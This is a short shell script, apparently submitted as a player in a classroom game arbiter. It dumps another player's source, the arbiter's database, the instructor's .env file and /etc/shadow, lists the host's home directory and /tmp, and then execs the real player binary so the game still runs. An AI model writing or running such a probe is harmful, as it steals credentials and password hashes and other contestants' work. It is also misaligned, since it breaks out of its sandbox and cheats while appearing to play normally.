#!/bin/sh
# Reads another player's source, the data folder's database, the
# instructor's .env and the system's password hashes, then plays.
cat ../other/prog.py "$DATA_DIR_GUESS/arbiter.db" "$HOST_HOME/.env" /etc/shadow 2>&1
ls "$HOST_HOME" /tmp 2>&1
exec ./fakeclass -game sixes
